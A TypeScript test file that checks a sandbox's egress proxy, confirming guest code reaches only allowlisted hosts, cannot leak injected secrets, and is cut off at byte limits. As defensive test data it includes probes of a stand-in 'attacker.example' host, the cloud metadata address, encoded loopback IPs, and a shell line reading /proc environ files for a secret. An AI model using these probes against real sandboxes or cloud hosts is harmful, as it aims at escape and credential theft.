import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo, LookupFunction } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../platform/clock.ts';
import { createIdSource } from '../../platform/ids.ts';
import { createSystemRandom } from '../../platform/random.ts';
import type { AllowedNetwork, Sandbox } from '../contract.ts';
import type { EgressAudit } from '../egress/index.ts';
import { defaultLimits } from '../limits.ts';
import { WorkspaceDriver } from './workspace-driver.ts';

const dataFolder = mkdtempSync(join(tmpdir(), 'switchyard-way-out-'));
const newId = createIdSource(systemClock, createSystemRandom());
/** What a name resolves to; everything is this machine, and the guard of the product refuses that. */
const toLoopback: LookupFunction = (_host, options, callback) => {
  const found = { address: '127.0.0.1', family: 4 };
  if (options.all === true) callback(null, [found]);
  else callback(null, found.address, found.family);
};
const open = new WorkspaceDriver({ dataFolder, clock: systemClock, newId, egress: { lookup: toLoopback } });
const guarded = new WorkspaceDriver({ dataFolder, clock: systemClock, newId, egress: { resolve: toLoopback } });
const isUsable = (await open.probe()).unusable === undefined && (await guarded.probe()).unusable === undefined;

const host = createServer((request, response) => {
  let bytes = 0;
  request.on('data', ({ length }: Buffer) => (bytes += length));
  request.on('end', () => {
    const size = Number(new URL(request.url ?? '/', 'http://host').searchParams.get('size') ?? 0);
    response.end(size > 0 ? Buffer.alloc(size, 'x') : `${request.method} ${request.headers.host} ${bytes}`);
  });
});
let port = 0;
beforeAll(async () => {
  await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve));
  ({ port } = host.address() as AddressInfo);
});
afterAll(async () => {
  await Promise.all([open.close(), guarded.close()]);
  host.closeAllConnections();
  host.close();
  rmSync(dataFolder, { recursive: true, force: true });
});

const audit: EgressAudit[] = [];
async function within(
  driver: WorkspaceDriver,
  network: Omit<AllowedNetwork, 'mode'>,
  work: (say: (python: string) => Promise<string>, sandbox: Sandbox) => Promise<void>,
): Promise<void> {
  audit.length = 0;
  const sandbox = await driver.create({
    limits: defaultLimits,
    network: { mode: 'allowed', ...network },
    audit: (entry) => void audit.push(entry),
  });
  const say = async (program: string): Promise<string> => {
    const running = await sandbox.exec({ argv: ['python3', '-c', `${helpers}\n${program}`] });
    let text = '';
    for await (const { bytes } of running.output()) text += Buffer.from(bytes).toString('utf8');
    return text.trim();
  };
  await work(say, sandbox).finally(() => sandbox.destroy());
}

/** Requests by the proxy of the environment, as libraries make them, and by hand. */
const helpers = `
import os, socket, urllib.request, urllib.error
def get(url, data=None):
    try: return urllib.request.urlopen(url, data, timeout=10).read().decode()
    except urllib.error.HTTPError as error: return str(error.code)
    except Exception as error: return type(error).__name__
def tunnel(to):
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nhost: {to}\\r\\n\\r\\n'.encode())
    return s.recv(100).decode().split(' ')[1]
`;

describe.skipIf(!isUsable)('the way out of a sandbox', () => {
  it('leads to the names that its policy has, with bodies of any size, and each connection is written down', async () => {
    await within(open, { allow: [`api.example.com:${port}`] }, async (say) => {
      const to = `http://api.example.com:${port}`;
      expect(await say(`print(get('${to}/', b'four'))`)).toBe(`POST api.example.com:${port} 4`);
      expect(await say(`print(len(get('${to}/?size=5000000')), get('${to}/', b'x' * 3000000))`)).toBe(
        `5000000 POST api.example.com:${port} 3000000`,
      );
      expect(await say(`print(tunnel('api.example.com:${port}'), tunnel('api.example.com:22'))`)).toBe('200 403');
    });
    expect(audit.map(({ host: name, verdict }) => [name, verdict])).toContainEqual(['api.example.com', 'allowed']);
    expect(audit.find(({ verdict }) => verdict === 'denied')).toMatchObject({ port: 22 });
  });

  it('[runtime hostile 18, 19, 20, 22, 23, 24] leads nowhere else: no other name, no address, no resolver', async () => {
    await within(guarded, { allow: [`api.example.com:${port}`] }, async (say) => {
      const wanted = [
        `http://api.example.com:${port}/`,
        'http://other.example.com/',
        `http://127.0.0.1:${port}/`,
        `http://2130706433:${port}/`,
        'http://169.254.169.254/latest/meta-data',
        'http://10.0.0.1/',
        'http://secret-in-a-name.attacker.example/',
      ];
      expect(await say(`for url in ${JSON.stringify(wanted)}: print(get(url))`)).toBe(
        // What is on the guest's own loopback address is not asked for by proxy, and nothing is there.
        ['403', '403', 'URLError', '403', '403', '403', '403'].join('\n'),
      );
      const direct = `for to in ('127.0.0.1', '8.8.8.8'):
    try: socket.create_connection((to, ${port}), 2); print('reached')
    except OSError: print('no')
try: socket.getaddrinfo('api.example.com', 80); print('resolved')
except OSError: print('no')`;
      expect(await say(direct)).toBe('no\nno\nno');
    });
    expect(audit.every(({ verdict }) => verdict === 'denied')).toBe(true);
    expect(audit.map(({ host: name }) => name)).toContain('169.254.169.254');
  });

  it('is taken by fetch of Node as well', async () => {
    await within(open, { allow: [`api.example.com:${port}`] }, async (_say, sandbox) => {
      const program = `for (const url of ['http://api.example.com:${port}/', 'http://api.example.com:${port}/', 'http://other.example.com/'])
        console.log(await fetch(url).then((answer) => answer.text(), (error) => error.cause.message));`;
      const running = await sandbox.exec({ argv: ['node', '--input-type=module', '-e', program] });
      let text = '';
      for await (const { bytes } of running.output()) text += Buffer.from(bytes).toString('utf8');
      const answer = `GET api.example.com:${port} 0`;
      const refused = 'the policy of this sandbox does not allow other.example.com:80 (403)';
      expect(text.trim().split('\n')).toEqual([answer, answer, refused]);
    });
  });

  it('carries no more bytes than it may', async () => {
    await within(open, { allow: [`api.example.com:${port}`], maxBytes: 100_000 }, async (say) => {
      expect(await say(`print(get('http://api.example.com:${port}/?size=500000')[:20])`)).toBe('IncompleteRead');
    });
    expect(audit).toMatchObject([{ verdict: 'cut' }]);
  });

  it('holds the values of its headers where no guest can look', async () => {
    const headers = [{ host: 'api.example.com', name: 'authorization', value: 'Bearer very-secret' }];
    await within(open, { allow: ['api.example.com'], headers }, async (say) => {
      const found = await say(`
import subprocess
print(('very-' + 'secret') in subprocess.run('env; cat /proc/*/environ /proc/*/cmdline; grep -rs very-secre[t] /tmp /home /run', shell=True, capture_output=True).stdout.decode('latin1'))`);
      expect(found).toBe('False');
    });
  });

  it('is gone with its sandbox, socket and all, and a neighbour without one has none', async () => {
    const waysOut = (): string[] =>
      readdirSync(findFolder()).filter((name) => name.startsWith(`${process.pid}-`) && name.includes('-egress-'));
    await within(open, { allow: ['example.com'] }, async (_say, sandbox) => {
      expect(waysOut()).toHaveLength(1);
      const neighbour = await open.create({ limits: defaultLimits });
      expect(await neighbour.files.stat('/run/switchyard/egress.sock')).toBeUndefined();
      await neighbour.destroy();
      expect((await sandbox.files.stat('/run/switchyard/egress.sock'))?.type).toBe('other');
    });
    expect(waysOut()).toEqual([]);
  });
});

function findFolder(): string {
  for (const folder of [join(dataFolder, 'runtime', 'shelf'), '/var/lib/switchyard/shelf']) {
    try {
      const sockets = join(folder, 'sockets');
      readdirSync(sockets);
      return sockets;
    } catch {
      // The other one.
    }
  }
  throw new Error('no sockets anywhere');
}
